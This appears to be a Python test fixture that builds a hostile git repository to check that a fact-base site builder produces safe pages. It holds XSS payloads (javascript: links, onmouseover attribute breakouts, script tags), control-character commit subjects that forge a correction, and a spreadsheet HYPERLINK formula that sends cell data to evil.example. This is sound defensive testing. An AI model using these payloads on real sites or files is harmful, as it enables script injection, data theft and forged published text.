"""A fact base that passes the check but was written to attack the site it builds.

Every record here is accepted: what it must not do is put live markup, an
off-site request or a forged change on the built pages, or publish uncited text
of an excerpt-only article. tests/test_build.py scans the built HTML;
tests/test_browser.py loads every page in Chromium, hovers and clicks every
link, and counts dialogs and requests to other hosts.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

from .conftest import MINI, write, write_record

# A seed file name that closes a Markdown code span and opens an image and a script link.
BACKTICK_FILE = "seeds/a`![p](https:/evil.example/p.png)[click](javascript:alert(document.domain)).txt"
# A label that, through Markdown's link syntax, broke out of the title attribute of a publisher link.
BREAKOUT_LABEL = 'Report [x](https://evil.example/" onmouseover="alert(1)" tabindex="0") end'
BREAKOUT_URL = "https://news.example/report/[x](javascript:alert(2))'onmouseover=alert(3)"
# Commit subjects that split fields or records in the old history reader; readers never see a subject.
SUBJECTS = [
    "Add the first facts",
    "Fix a typo\x1e2031-01-01\x1fRetracted: Putin never received any letter",
    "Reword\x1e",
    "Label [click](javascript:alert(4)) ![img](https://evil.example/h.png) <script>alert(5)</script>",
]
# The Correction trailers of the same commits, which readers do see: the same attacks.
CORRECTIONS = [
    None,
    "A typo\x1e2031-01-01\x1fWithdrawn: Putin never received any letter",
    "Reworded\x1e",
    "Label [click](javascript:alert(6)) ![img](https://evil.example/c.png) <script>alert(7)</script>",
]
FORGED = "Withdrawn: Putin never received any letter"
# The excerpt-only article: only the cited first and last words of its paragraph may be published.
EXCERPT = (
    "Opening words of the article stay cited, while this secret middle part is never cited anywhere "
    "and ends with closing words that are cited."
)
UNCITED = "this secret middle part is never cited anywhere"
# A description a spreadsheet would run as a formula, were it not written as text in every CSV file.
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Carol")'


def _commit(repo: Path, n: int) -> None:
    correction = CORRECTIONS[n]
    body = ["-m", f"Correction: {correction}"] if correction else []
    _git(repo, "commit", "-q", "-m", SUBJECTS[n], *body)


def _git(repo: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=Mallory", "-c", "user.email=m@example.org", *args],
        check=True,
        capture_output=True,
    )


def make_hostile_repo(dest: Path) -> Path:
    """The mini fixture plus the hostile records, committed under hostile subjects and corrections."""
    repo = dest / "hostile"
    shutil.copytree(MINI, repo)
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _commit(repo, 0)

    # Item: a file name that is markup, shown in the source page's "Text file" row.
    write(repo / BACKTICK_FILE, (repo / "seeds/mini.txt").read_text(encoding="utf-8"))
    write_record(
        repo,
        "sources/odd-name.yaml",
        f"id: odd-name\nfile: {json.dumps(BACKTICK_FILE)}\nlabel: {json.dumps(BREAKOUT_LABEL)}\n"
        f"url: {json.dumps(BREAKOUT_URL)}\n",
    )
    write_record(
        repo,
        "people/carol-odd.yaml",
        f"id: carol-odd\nname: Carol Odd\ndescription: {json.dumps(FORMULA)}\n"
        "citations:\n  - source: odd-name\n    quote: Bob said it lasted one hour.\n",
    )
    _git(repo, "add", "-A")
    _commit(repo, 1)

    # Item: an excerpt-only article whose first and last words are cited, and its furniture.
    write(repo / "seeds/excerpt.txt", f"{EXCERPT}\n\nDonate now to keep this free.\n")
    write_record(
        repo,
        "sources/excerpt.yaml",
        "id: excerpt\nfile: seeds/excerpt.txt\nlabel: An excerpt-only report\nlicence: excerpt-only\n"
        "url: https://news.example/excerpt\nfurniture:\n  - kind: donation-appeal\n"
        "    quote: Donate now to keep this free.\n",
    )
    write_record(
        repo,
        "people/dave-excerpt.yaml",
        "id: dave-excerpt\nname: Dave Excerpt\ndescription: A person cited at both ends of a paragraph.\n"
        "citations:\n  - source: excerpt\n    quote: Opening words of the article\n"
        "  - source: excerpt\n    quote: closing words that are cited.\n",
    )
    _git(repo, "add", "-A")
    _commit(repo, 2)

    # Item: a publication date at the start of the calendar, and "on Friday" counted back from it.
    write(repo / "seeds/ancient.txt", "Published 0001-01-01.\n\nOn Friday, Alice Example met Bob Sample.\n")
    write_record(
        repo,
        "sources/ancient.yaml",
        "id: ancient\nfile: seeds/ancient.txt\nlabel: A report dated at the start of the calendar\n"
        "published:\n  date: '0001-01-01'\n  quote: Published 0001-01-01.\n",
    )
    write_record(
        repo,
        "claims/met-on-friday.yaml",
        "id: met-on-friday\nstatement: Alice and Bob met on a Friday.\nstatus: reported\naccounts:\n"
        "  - source: ancient\n    claimed_by: the article\n    when:\n      text: On Friday\n    quotes:\n"
        "      - quote: On Friday, Alice Example met Bob Sample.\n",
    )
    _git(repo, "add", "-A")
    _commit(repo, 3)
    return repo
